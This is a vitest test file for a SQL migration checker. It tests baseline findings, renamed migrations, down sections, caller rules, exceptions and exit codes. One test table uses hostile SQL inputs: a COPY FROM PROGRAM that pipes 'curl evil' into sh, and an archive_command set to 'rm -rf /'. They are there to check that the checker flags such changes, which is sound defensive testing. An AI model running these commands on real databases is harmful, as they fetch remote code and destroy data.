import { describe, expect, it } from 'vitest';
import { FORMATS } from '../../../src/report/index.ts';
import { notAppliedLines } from '../../../src/report/text/words.ts';
import { all, CONFIG, checkFiles, checkPull, config, counting, type Files, notices, RULES, rules } from '../build.ts';

const SETUP: Files = { ...config(), ...rules() };
const OLD = 'DELETE FROM sessions;\n';

describe('a finding that the base version of the file has too', () => {
  it('is existing, and does not count', async () => {
    const report = await checkPull({ ...SETUP, 'db/1.sql': OLD }, { ...SETUP, 'db/1.sql': `${OLD}SELECT 1;\n` });
    expect(all(report)).toEqual(['existing block no-unfiltered-delete db/1.sql:1']);
    expect(report.totals).toMatchObject({ blocked: 0, existing: 1 });
    expect([report.verdict, report.exitCode, report.conclusion]).toEqual([
      'allow',
      0,
      'passed, with 1 existing finding',
    ]);
  });

  it('counts with `findings: all`, and is still existing', async () => {
    const base = { ...config('findings: all\n'), ...rules(), 'db/1.sql': OLD };
    const report = await checkPull(base, { ...base, 'db/1.sql': `${OLD}SELECT 1;\n` });
    expect(all(report)).toEqual(['existing block no-unfiltered-delete db/1.sql:1']);
    expect(report.totals).toMatchObject({ blocked: 1, existing: 0 });
    expect(report.files).toMatchObject([{ path: 'db/1.sql', verdict: 'block' }]);
    expect([report.verdict, report.exitCode, report.conclusion]).toEqual(['block', 1, 'failed: 1 finding blocked']);
    const { results } = JSON.parse(FORMATS.sarif.render(report)).runs[0];
    expect(results).toMatchObject([{ level: 'error', baselineState: 'unchanged' }]);
  });

  it.each([
    ['a second one like it', `${OLD}${OLD}`, ['block no-unfiltered-delete db/1.sql:2']],
    ['one on another table', `${OLD}DELETE FROM users;\n`, ['block no-unfiltered-delete db/1.sql:2']],
    ['one of another rule on the table', `${OLD}TRUNCATE sessions;\n`, ['block no-truncate db/1.sql:2']],
    ['the same on another table', 'DELETE FROM users;\n', ['block no-unfiltered-delete db/1.sql:1']],
    [
      'the same with a filter that filters nothing',
      'DELETE FROM sessions WHERE id = id;\n',
      ['block no-unfiltered-delete db/1.sql:1'],
    ],
  ])('does not cover %s', async (_, text, expected) => {
    const report = await checkPull({ ...SETUP, 'db/1.sql': OLD }, { ...SETUP, 'db/1.sql': text });
    expect(counting(report)).toEqual(expected);
    expect(report.exitCode).toBe(1);
  });

  it.each([
    ['other lines above it', `CREATE TABLE a (id int);\n\n-- moved down\n${OLD}`],
    ['another layout', 'delete\n  from sessions\n;\n'],
    ['a comment in it', 'DELETE /* all */ FROM sessions;\n'],
  ])('stays the same with %s', async (_, text) => {
    const report = await checkPull({ ...SETUP, 'db/1.sql': OLD }, { ...SETUP, 'db/1.sql': text });
    expect(report.totals).toMatchObject({ blocked: 0, existing: 1 });
  });

  it.each([
    [
      'a DO block',
      "DO $$ BEGIN EXECUTE 'DROP TABLE old_a'; END $$;\n",
      "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$;\n",
    ],
    ['a program', "COPY t FROM PROGRAM 'true';\n", "COPY t FROM PROGRAM 'curl evil | sh';\n"],
    [
      'a server setting',
      "ALTER SYSTEM SET archive_command = 'true';\n",
      "ALTER SYSTEM SET archive_command = 'rm -rf /';\n",
    ],
    ['what cannot be read', "ALTER TABLE t FROBNICATE 'a';\n", "ALTER TABLE t FROBNICATE 'b';\n"],
  ])('does not cover another text of %s', async (_, before, after) => {
    const base = { ...SETUP, 'db/1.sql': before };
    const same = await checkPull(base, { ...SETUP, 'db/1.sql': `-- the same\n${before}` });
    expect([same.exitCode, same.totals.existing > 0]).toEqual([0, true]);
    const other = await checkPull(base, { ...SETUP, 'db/1.sql': after });
    expect(other.exitCode).not.toBe(0);
    expect(counting(other)).not.toEqual([]);
  });

  it.each([
    ['another file is run before it', '\\i a.sql\n\\i c.sql\n', []],
    ['a setting before it is another one', '\\i a.sql\nSET search_path TO b;\n\\i c.sql\n', ['\\i']],
    ['it runs another file', '\\i a.sql\n\\i b.sql\n\\i d.sql\n', ['\\i']],
    ['another file is run before SQL', '\\i b.sql\n\\i c.sql\nDELETE FROM sessions;\n', ['sessions']],
  ])('stays the same in the run of a file that nobody reads, unless more changes: %s', async (_, text, expected) => {
    const sql = text.includes('sessions') ? OLD : '';
    const report = await checkPull(
      { ...SETUP, 'db/1.sql': `\\i a.sql\n\\i b.sql\n\\i c.sql\n${sql}` },
      { ...SETUP, 'db/1.sql': text },
    );
    const found = report.findings.filter(({ status }) => status === 'new');
    expect(found.map(({ operation }) => operation?.target)).toEqual(expected);
  });

  it('is new in a renamed file, since a renamed migration runs again', async () => {
    const report = await checkPull(
      { ...SETUP, 'db/1.sql': OLD },
      { ...SETUP, 'db/2.sql': OLD },
      {},
      { files: [{ status: 'renamed', path: 'db/2.sql', previousPath: 'db/1.sql' }] },
    );
    expect(counting(report)).toEqual(['block no-unfiltered-delete db/2.sql:1']);
    expect(report.files).toMatchObject([{ path: 'db/2.sql', previousPath: 'db/1.sql', status: 'renamed' }]);
  });

  const OTHER = { 'schema/3.sql': 'SELECT 1;\n' };
  it.each<[string, string, string, string[], Record<string, string>]>([
    ['is existing in a file whose folder is moved', 'db/1.sql', 'schema/db/1.sql', [], {}],
    ['is existing in a file whose folder is moved up', 'app/db/1.sql', 'sql/db/1.sql', [], {}],
    ['is existing in a migration with its own folder', 'db/1_a/migration.sql', 'schema/db/1_a/migration.sql', [], {}],
    ['is new in a file that leaves others behind', 'db/1.sql', 'app/db/1.sql', ['app/db/1.sql:1'], { 'db/3.sql': '' }],
    ['is new in a file that was a test', 'test/db/1.sql', 'main/db/1.sql', ['main/db/1.sql:1'], {}],
    ['is new in a file that was to be run by hand', 'manual/1.sql', 'db/1.sql', ['db/1.sql:1'], {}],
    ['is new in one for another database', 'a/main/1_a/up.sql', 'a/other/1_a/up.sql', ['a/other/1_a/up.sql:1'], {}],
    ['is new in a file that is moved to others', 'db/1.sql', 'schema/db/1.sql', ['schema/db/1.sql:1'], OTHER],
    ['is new in a file that gets another name', 'db/1.sql', 'schema/db/2.sql', ['schema/db/2.sql:1'], {}],
    ['is new in a file that was down', 'down/db/1.sql', 'schema/db/1.sql', ['schema/db/1.sql:1'], {}],
  ])('%s: %s to %s', async (_, previousPath, path, expected, other) => {
    const report = await checkPull(
      { ...SETUP, ...other, [previousPath]: OLD },
      { ...SETUP, ...other, [path]: OLD },
      {},
      { files: [{ status: 'renamed', path, previousPath }] },
    );
    expect(counting(report)).toEqual(expected.map((place) => `block no-unfiltered-delete ${place}`));
    expect(report.files).toMatchObject([{ path, previousPath, status: 'renamed' }]);
    const moved = `the change moves a folder with its files (\`${previousPath}\` is now \`${path}\`)`;
    expect(notices(report).includes(moved)).toBe(expected.length === 0);
  });

  it.each<[string, string, number]>([
    ['is existing in a file whose folder is moved to where the configuration names its tool', 'app/db', 0],
    ['is existing in a file whose folder is moved from where the configuration names its tool', 'db', 0],
    ['is new in a file whose folder is moved to another tool', 'app/db/**], tool: flyway }, { paths: [db', 1],
  ])('%s', async (_, paths, count) => {
    const base = { ...config(`files: [{ paths: [${paths}/**], tool: sqitch }]\n`), ...rules() };
    const report = await checkPull(
      { ...base, 'db/1.sql': OLD },
      { ...base, 'app/db/1.sql': OLD },
      {},
      { files: [{ status: 'renamed', path: 'app/db/1.sql', previousPath: 'db/1.sql' }] },
    );
    expect(counting(report)).toHaveLength(count);
  });

  it.each<[string, string, string, string, number]>([
    ['existing in a migration that gets another description', 'dbmate', 'db/7_a.sql', 'db/7_b.sql', 0],
    [
      'existing in a folder of a migration that gets another description',
      'diesel',
      'db/7_a/up.sql',
      'db/7_b/up.sql',
      0,
    ],
    [
      'existing in one that runs without a transaction from now on',
      'popx',
      'db/7_a.up.sql',
      'db/7_a.autocommit.up.sql',
      0,
    ],
    ['new in one that gets another version', 'dbmate', 'db/7_a.sql', 'db/8_a.sql', 1],
    ['new in one without a version', 'dbmate', 'db/a.sql', 'db/b.sql', 1],
    ['new in one of another folder', 'dbmate', 'db/7_a.sql', 'app/7_b.sql', 1],
    ['new in one of a tool that knows it by its name', 'sql-migrate', 'db/7_a.sql', 'db/7_b.sql', 1],
    ['new in one of a tool that is not known', 'up-down-files', 'db/7_a.sql', 'db/7_b.sql', 1],
  ])('is %s', async (_, tool, previousPath, path, count) => {
    const base = { ...config(`files: [{ paths: ['**'], tool: ${tool} }]\n`), ...rules() };
    const files = [{ status: 'renamed' as const, path, previousPath }];
    const report = await checkPull({ ...base, [previousPath]: OLD }, { ...base, [path]: OLD }, {}, { files });
    expect(counting(report)).toHaveLength(count);
    const renamed = `the change renames a migration and leaves its version (\`${previousPath}\` is now \`${path}\`)`;
    expect(notices(report).includes(renamed)).toBe(count === 0);
  });

  it.each(['liquibase', 'dbup', 'hasura'])('is new in a file whose folder is moved if %s runs it', async (tool) => {
    const base = { ...config(`files: [{ paths: ['**/*.sql'], tool: ${tool} }]\n`), ...rules() };
    const report = await checkPull(
      { ...base, 'db/1.sql': OLD },
      { ...base, 'app/db/1.sql': OLD },
      {},
      { files: [{ status: 'renamed', path: 'app/db/1.sql', previousPath: 'db/1.sql' }] },
    );
    expect(counting(report)).toContain('block no-unfiltered-delete app/db/1.sql:1');
  });

  it('is new in a file whose folder is moved, if the base version of the file does not have it', async () => {
    const [previousPath, path] = ['db/1.sql', 'schema/db/1.sql'];
    const report = await checkPull(
      { ...SETUP, [previousPath]: OLD },
      { ...SETUP, [path]: `${OLD}DROP TABLE users;\n` },
      {},
      { files: [{ status: 'renamed', path, previousPath }] },
    );
    expect(counting(report)).toEqual(['block no-drop-table schema/db/1.sql:2']);
  });

  it('is new if the base cannot be read, and a notice says so', async () => {
    const report = await checkPull(
      { ...SETUP, 'db/1.sql': OLD },
      { ...SETUP, 'db/1.sql': `${OLD}SELECT 1;\n` },
      {},
      { diffBase: { unavailable: 'it was not fetched' } },
    );
    expect(counting(report)).toEqual(['block no-unfiltered-delete db/1.sql:1']);
    expect(notices(report)).toBe(
      'warning: the base version of the files cannot be read (it was not fetched), so every finding counts as new',
    );
  });

  it('is existing even if only a new rule finds it', async () => {
    const tightened = {
      ...config(),
      [RULES]: 'version: 1\nrules:\n  - { id: no-select, operations: [select], verdict: block, message: no }\n',
    };
    const report = await checkPull(
      { ...SETUP, 'db/1.sql': 'SELECT 1;\n' },
      { ...tightened, 'db/1.sql': 'SELECT 1;\nSELECT a FROM b;\n' },
    );
    expect(all(report)).toEqual([
      'new block no-select db/1.sql:2 (head)',
      'existing block no-select db/1.sql:1 (head)',
    ]);
  });
});

describe('the fingerprint of a finding', () => {
  const of = async (path: string, text: string, own: Files = rules()) => {
    const report = await checkFiles({ ...config(), ...own, [path]: text });
    return report.findings.map(({ fingerprint }) => fingerprint);
  };

  it('is 64 hexadecimal digits and its version', async () => {
    expect(await of('1.sql', OLD)).toEqual([expect.stringMatching(/^[0-9a-f]{64}\/v1$/)]);
  });

  it('does not depend on the position of the statement or its literals', async () => {
    const [first] = await of('1.sql', "UPDATE users SET plan = 'free';");
    expect(await of('1.sql', "\n\nSELECT 1;\n  UPDATE users\n SET plan = 'paid' ;")).toEqual([first]);
  });

  it('differs for another path, rule, table or occurrence', async () => {
    const prints = [
      ...(await of('1.sql', 'DROP TABLE a; DROP TABLE a;')),
      ...(await of('2.sql', 'DROP TABLE a;')),
      ...(await of('1.sql', 'DROP TABLE b;')),
      ...(await of('1.sql', 'TRUNCATE a;')),
    ];
    expect(prints).toHaveLength(5);
    expect(new Set(prints).size).toBe(5);
  });
});

describe('down sections', () => {
  const GOOSE = "files: [{ paths: ['db/**'], tool: goose }]\n";
  const MIGRATION = { 'db/2.sql': '-- +goose Up\nCREATE TABLE t (id int);\n-- +goose Down\nDROP TABLE t2;\n' };

  it('are exempt if the configuration in force names the tool for the path', async () => {
    const setup = { ...config(GOOSE), ...rules() };
    const report = await checkPull(setup, { ...setup, ...MIGRATION });
    expect(all(report)).toEqual(['spared block no-drop-table db/2.sql:4']);
    expect([report.exitCode, report.totals.spared]).toEqual([0, 1]);
  });

  it.each([
    ['no tool is named', config()],
    ['another tool is named: to it the marker is a comment', config(GOOSE.replace('goose', 'dbmate'))],
    ['the tool is named for other paths', config(GOOSE.replace('db/**', 'goose/**'))],
  ])('are judged if %s', async (_, setup) => {
    const report = await checkPull({ ...setup, ...rules() }, { ...setup, ...rules(), ...MIGRATION });
    expect(counting(report)).toEqual(['block no-drop-table db/2.sql:4']);
  });

  it('are judged if only the change names the tool', async () => {
    const report = await checkPull(SETUP, { ...config(GOOSE), ...rules(), ...MIGRATION });
    expect(counting(report)).toEqual(['block no-drop-table db/2.sql:4']);
    expect(report.notices.map(({ message }) => message)).toContain(
      'the change edits settings, which apply once it is merged: then 1 of 1 finding would not count (no-drop-table at db/2.sql:4)',
    );
  });

  it.each([
    ['adds a finding', config(GOOSE), config(), '1 more finding would count (no-drop-table at db/2.sql:4)'],
    [
      'makes no difference to its findings',
      config('max-exemption-days: 30\n'),
      config('max-exemption-days: 90\n'),
      'the same findings would count',
    ],
  ])('of a change whose edited settings %s are named', async (_, before, after, expected) => {
    const report = await checkPull({ ...before, ...rules() }, { ...after, ...rules(), ...MIGRATION });
    expect(report.notices.map(({ message }) => message).join('\n')).toContain(expected);
  });

  it('are said to count until the tool is merged, if the change names it', async () => {
    const report = await checkPull(SETUP, { ...config(GOOSE), ...rules(), ...MIGRATION });
    const text = FORMATS.terminal.render(report).replace(/\s+/g, ' ');
    expect(text).toContain('in a down section, which counts until the `tool` that this change configures is merged');
    expect(text).toContain('config merge the configuration before the migration');
  });

  it('show the lines that name the tool, if none is named', async () => {
    const report = await checkPull(SETUP, { ...SETUP, ...MIGRATION });
    const text = FORMATS.terminal.render(report);
    expect(text).toMatch(/files:\n +- paths: \[.db\/\*\*.\]\n +tool: goose/);
    expect(text).not.toContain('querygate:allow');
  });

  it('are not compared if the edited settings judge them in the same way', async () => {
    const edited = { ...config('simulate: { history: none }\n'), ...rules(), ...MIGRATION };
    const report = await checkPull({ ...config(), ...rules() }, edited);
    expect(report.notices.map(({ message }) => message).join('\n')).not.toContain(
      'which apply once it is merged: then',
    );
  });

  it('are not judged twice if the settings stay the same', async () => {
    const report = await checkPull({ ...config(), ...rules() }, { ...config(), ...rules(), ...MIGRATION });
    expect(report.notices.map(({ message }) => message).join('\n')).not.toContain('edits settings');
  });

  const PAIR = { 'db/2.up.sql': 'DROP TABLE t1;\n', 'db/2.down.sql': 'DROP TABLE t2;\n' };
  const RUNNER = "files: [{ paths: ['db/**'], tool: up-down-files }]\n";

  it('are the down files of a runner of the team', async () => {
    const setup = { ...config(RUNNER), ...rules() };
    const report = await checkPull(setup, { ...setup, ...PAIR });
    expect(all(report)).toEqual([
      'new block no-drop-table db/2.up.sql:1',
      'spared block no-drop-table db/2.down.sql:1',
    ]);
    expect(report.exitCode).toBe(1);
  });

  it.each([
    ['no tool is named', config(), PAIR],
    ['another tool is named, which runs them', config(RUNNER.replace('up-down-files', 'goose')), PAIR],
    ['their name is another one', config(RUNNER), { 'db/2.DOWN.sql': 'DROP TABLE t2;\n' }],
    ['only a comment says so', config(RUNNER), { 'db/2.sql': '-- +goose Down\nDROP TABLE t2;\n' }],
    ['only the change names the runner', config(), { ...config(RUNNER), ...PAIR }],
  ])('are judged in files of such a runner if %s', async (_, setup, changed) => {
    const report = await checkPull({ ...setup, ...rules() }, { ...setup, ...rules(), ...changed });
    expect(counting(report).filter((line) => /t2|down|DOWN|2\.sql/.test(line))).toHaveLength(1);
  });

  it.each([
    ['goose', '-- +goose Up', '-- +goose Down', 'SELECT $$;', '-- $$;'],
    ['sql-migrate', '-- +migrate Up', '-- +migrate Down', 'SELECT $$;', '-- $$;'],
    ['sql-migrate', '-- +migrate Up', '-- +migrate Down', "SELECT ';", "-- ';"],
    ['sql-migrate', '-- +migrate Up', '-- +migrate Down', '/* ;', '-- */'],
    ['dbmate', '-- migrate:up', '-- migrate:down', 'SELECT $$;', '-- $$;'],
    ['rambler', '-- rambler up', '-- rambler down', 'SELECT $$;', '-- $$;'],
  ])('with a marker that only %s sees are unknown (%s, %s, %s)', async (tool, up, down, open, close) => {
    const setup = { ...config(GOOSE.replace('goose', tool)), ...rules() };
    const sql = `${up}\nCREATE TABLE t (id int);\n${down}\n${open}\n${up}\nDROP TABLE users;\n${close}\nDROP TABLE t2;\n`;
    const report = await checkPull(setup, { ...setup, 'db/2.sql': sql });
    expect(report.verdict).toBe('block');
    expect(counting(report)).toEqual([
      'block no-drop-table db/2.sql:8',
      expect.stringMatching(/^unknown unreadable db\/2\.sql:/),
    ]);
  });

  it('give rules their section only if the tool is named', async () => {
    const own = {
      [RULES]: `version: 1
rules:
  - { id: no-up-drop, operations: [drop_table], when: 'file.section != "down"', verdict: block, message: no }
`,
    };
    const known = await checkFiles({ ...config(GOOSE), ...own, ...MIGRATION });
    expect(counting(known)).toEqual([]);
    const unknown = await checkFiles({ ...config(), ...own, ...MIGRATION });
    expect(counting(unknown)).toEqual(['block no-up-drop db/2.sql:4']);
  });
});

describe('rules about the caller', () => {
  const OWN = `version: 1
rules:
  - id: no-delete-by-app
    operations: [delete]
    when: 'caller.user == "app"'
    verdict: block
    message: '{caller.user} deletes'
`;
  const files = (more = '') => ({ ...config(more), [RULES]: OWN, 'db/1.sql': 'DELETE FROM t WHERE id = 1;\n' });
  const CALLER = "files: [{ paths: ['db/**'], caller: { user: app } }]\n";

  it('do not apply to a file without a caller, and are listed', async () => {
    const report = await checkFiles(files());
    expect(report.exitCode).toBe(0);
    expect(report.judges[0]?.notApplied).toEqual([
      { rule: 'no-delete-by-app', reason: 'needs `caller`, but no caller is given' },
    ]);
  });

  it.each([
    ['the configuration names for the path', files(CALLER), {}, ['block no-delete-by-app db/1.sql:1']],
    ['the command line names', files(), { caller: { user: 'app' } }, ['block no-delete-by-app db/1.sql:1']],
    ['is another one', files(), { caller: { user: 'admin' } }, []],
  ])('apply to a caller that %s', async (_, tree, settings, expected) => {
    const report = await checkFiles(tree, settings);
    expect(counting(report)).toEqual(expected);
    expect(report.judges[0]?.notApplied).toEqual([]);
  });

  it('are unknown if the caller is only partly known', async () => {
    const report = await checkFiles(files(), { caller: { role: 'writer' } });
    expect(counting(report)).toEqual(['unknown no-delete-by-app db/1.sql:1']);
    expect(report.exitCode).toBe(5);
  });

  it('ignore a caller that only the change sets', async () => {
    const report = await checkPull({ ...config(), [RULES]: OWN }, files(CALLER));
    expect(counting(report)).toEqual([]);
    expect(report.judges[0]?.notApplied).toHaveLength(1);
  });
});

it('an exception that needs a caller is listed as such, and the rule still blocks', async () => {
  const text = `version: 1
extends: [querygate:recommended@1]
exceptions:
  - { rule: no-drop-table, when: 'caller.user == "app"', reason: r, owner: o, until: 2099-01-01 }
`;
  const report = await checkFiles({ ...config(), [RULES]: text, 'db/1.sql': 'DROP TABLE users;\n' });
  expect(counting(report)).toEqual(['block no-drop-table db/1.sql:1']);
  expect(notAppliedLines(report)).toEqual([
    '1 exception to no-drop-table not applied: it needs `caller`, and none is configured (the rule itself still applies)',
  ]);
});

describe('exceptions in the rules', () => {
  const except = (until: string) =>
    rules(
      {},
      `exceptions:\n  - { rule: no-drop-table, when: 'operation.target.name == "old"', reason: 'archived, OPS-1', owner: data, until: ${until} }\n`,
    );
  const SQL = { 'db/2.sql': 'DROP TABLE old;\nDROP TABLE users;\n' };

  it.each(['2026-11-20', '2027-01-01'])('are valid through their last day, %s', async (until) => {
    const setup = { ...config(), ...except(until) };
    const report = await checkPull(setup, { ...setup, ...SQL });
    expect(all(report)).toEqual(['new block no-drop-table db/2.sql:2', 'excepted block no-drop-table db/2.sql:1']);
    expect(report.findings[1]?.exemption).toBe(`archived, OPS-1 (data, until ${until})`);
  });

  it('are not valid after they expired, and a notice on their line says so', async () => {
    const setup = { ...config(), ...except('2026-11-19') };
    const report = await checkPull(setup, { ...setup, ...SQL });
    expect(report.totals).toMatchObject({ blocked: 2, excepted: 0 });
    expect(report.notices).toMatchObject([
      {
        level: 'warning',
        path: RULES,
        location: { start: { line: 4 } },
        message: 'the exception to `no-drop-table` expired on 2026-11-19; remove it, or ask data for a new one',
      },
    ]);
  });
});

describe('the exit code', () => {
  const own = (verdict: string) => ({
    [RULES]: `version: 1
rules:
  - { id: no-drop-table, operations: [drop_table], verdict: block, message: dropped }
  - { id: no-create-table, operations: [create_table], verdict: warn, message: created }
  - { id: no-dear-delete, operations: [delete], when: 'statement.limit > 10', verdict: ${verdict}, message: dear }
`,
  });
  const BLOCK = 'DROP TABLE a;\n';
  const WARN = 'CREATE TABLE b (id int);\n';
  // Not understood by any reader.
  const UNKNOWN = 'FROBNICATE THE DATABASE;\n';

  it.each([
    ['nothing', 'SELECT 1;\n', 'block', 'fail', 0, 'passed'],
    ['a warning', WARN, 'block', 'fail', 0, 'passed, with 1 warning'],
    ['a warning', WARN, 'warn', 'fail', 1, 'failed: 1 warning (`fail-on: warn`)'],
    ['a warning', WARN, 'never', 'fail', 0, 'passed, with 1 warning'],
    ['a block', BLOCK, 'block', 'fail', 1, 'failed: 1 finding blocked'],
    ['a block', BLOCK, 'never', 'fail', 0, 'reported only (`fail-on: never`): 1 finding blocked'],
    ['a block and a warning', BLOCK + WARN, 'warn', 'fail', 1, 'failed: 2 findings blocked'],
    ['something unknown', UNKNOWN, 'block', 'fail', 5, 'failed: 1 finding could not be decided (`on-unknown: fail`)'],
    ['something unknown', UNKNOWN, 'block', 'warn', 0, 'passed, with 1 undecided (`on-unknown: warn`)'],
    ['something unknown', UNKNOWN, 'block', 'pass', 0, 'passed, with 1 undecided (`on-unknown: pass`)'],
    [
      'something unknown',
      UNKNOWN,
      'never',
      'fail',
      0,
      'reported only (`fail-on: never`): 1 finding could not be decided (`on-unknown: fail`)',
    ],
    [
      'a block and something unknown',
      BLOCK + UNKNOWN,
      'block',
      'fail',
      1,
      'failed: 1 finding blocked; 1 finding could not be decided (`on-unknown: fail`)',
    ],
    ['a warning and something unknown', WARN + UNKNOWN, 'warn', 'pass', 1, 'failed: 1 warning (`fail-on: warn`)'],
  ] as const)('%s (%#)', async (_, sql, failOn, onUnknown, exit, conclusion) => {
    const report = await checkFiles({ ...config(), ...own('block'), 'a.sql': sql }, { failOn, onUnknown });
    expect([report.exitCode, report.conclusion]).toEqual([exit, conclusion]);
  });

  const undecidable = (verdict: string) => ({
    [RULES]: `version: 1
rules:
  - { id: no-drop-named, operations: [drop_table], when: 'operation.target.name == "users"', verdict: ${verdict}, message: dropped }
`,
  });

  it.each([
    ['block', 'block', ['unknown no-drop-named a.sql:1'], 5],
    ['warn', 'block', ['warn no-drop-named a.sql:1'], 0],
    ['warn', 'warn', ['unknown no-drop-named a.sql:1'], 5],
    ['block', 'never', ['unknown no-drop-named a.sql:1'], 0],
  ] as const)(
    'a rule of verdict %s that cannot be decided counts under fail-on: %s as %s',
    async (verdict, failOn, expected, exit) => {
      const sql = 'DROP TABLE ${table};\n';
      const report = await checkFiles({ ...config(), ...undecidable(verdict), 'a.sql': sql }, { failOn });
      expect(counting(report)).toEqual(expected);
      expect(report.exitCode).toBe(exit);
    },
  );

  it('is not 0 if there is nothing left to judge but the list of files is untrusted', async () => {
    const report = await checkPull(SETUP, { ...SETUP, 'README.md': 'x' }, {}, { untrusted: 'the list was cut' });
    expect(counting(report)).toEqual(['unknown changed-files .']);
    expect([report.exitCode, report.verdict]).toEqual([5, 'unknown']);
    const tolerated = await checkPull(
      SETUP,
      { ...SETUP, 'README.md': 'x' },
      { onUnknown: 'pass' },
      { untrusted: 'the list was cut' },
    );
    expect(tolerated.conclusion).toBe('passed, with 1 undecided (`on-unknown: pass`)');
  });

  it('is 0 with nothing to check, and the conclusion says so', async () => {
    const report = await checkPull(SETUP, { ...SETUP, 'README.md': 'x' });
    expect([report.exitCode, report.conclusion]).toEqual([0, 'passed: nothing to check']);
  });
});

describe('settings of a service', () => {
  const files = { ...SETUP, 'a.sql': 'SELECT 1;\n' };
  it.each([
    ['a base URL', { baseUrl: 'https://example.com' }, /^the base URL of a service is set/],
    ['a key', { apiKey: 'qg_x' }, /^the API key of a service is set/],
  ])('%s alone is an error, because other rules would judge', async (_, service, message) => {
    await expect(checkFiles(files, { service })).rejects.toMatchObject({
      exitCode: 2,
      message: expect.stringMatching(message),
    });
  });

  it('a workspace alone does not select a service, and the first line says so', async () => {
    const report = await checkFiles(files, { service: { workspace: 'acme' } });
    expect(report.headline).toMatch(/; workspace `acme` was not asked: no service is configured$/);
    expect(report.exitCode).toBe(0);
  });
});

describe('an error in the team’s own files', () => {
  it.each([
    [
      'an unknown key',
      { [CONFIG]: 'version: 1\ndialekt: mysql\n' },
      `${CONFIG}:2:1: unknown key \`dialekt\` (did you mean \`dialect\`?)`,
    ],
    [
      'a value that is none',
      { [CONFIG]: 'version: 1\ndialect: oracel\n' },
      `${CONFIG}:2:10: \`oracel\` is not a valid value for \`dialect\``,
    ],
    [
      'a wrong type',
      { [CONFIG]: 'version: 1\npaths: db\n' },
      `${CONFIG}:2:8: \`paths\` must be a list, but is \`db\`; write a list: \`paths: [db]\``,
    ],
    [
      'a glob that is not in a list',
      { [CONFIG]: 'version: 1\npaths: "**/*.sql"\n' },
      '; write a list: `paths: ["**/*.sql"]`',
    ],
    [
      'a word that is near only because it is short',
      { [CONFIG]: 'version: 1\nsuppressions: no\n' },
      '`no` is not a valid value for `suppressions`; use ',
    ],
    ['no version', { [CONFIG]: 'dialect: mysql\n' }, `${CONFIG}:1:1: \`version\` is missing; add \`version: 1\``],
    ['bad YAML', { [CONFIG]: 'version: 1\npaths: [\n' }, `${CONFIG}:`],
    [
      'a file by the wrong name',
      { '.querygate/config.yaml': 'version: 1\n' },
      '.querygate/config.yaml: this file is not read; rename it to `.querygate/config.yml`',
    ],
    [
      'a rule that is wrong',
      { ...config(), [RULES]: 'version: 1\nrules:\n  - id: no-x\n    operations: [drop_tabel]\n' },
      `${RULES}:4:18: `,
    ],
  ])('%s has its place', async (_, own, line) => {
    const run = checkFiles({ ...own, 'a.sql': 'SELECT 1;\n' });
    await expect(run).rejects.toMatchObject({ exitCode: 2 });
    const error = await run.catch((caught: { toLine(): string }) => caught);
    expect('toLine' in error && error.toLine()).toEqual(expect.stringContaining(line));
  });

  it('a configuration that the command line names must exist', async () => {
    await expect(checkFiles({ 'a.sql': '' }, { config: 'q.yml' })).rejects.toThrow('there is no configuration `q.yml`');
  });
});
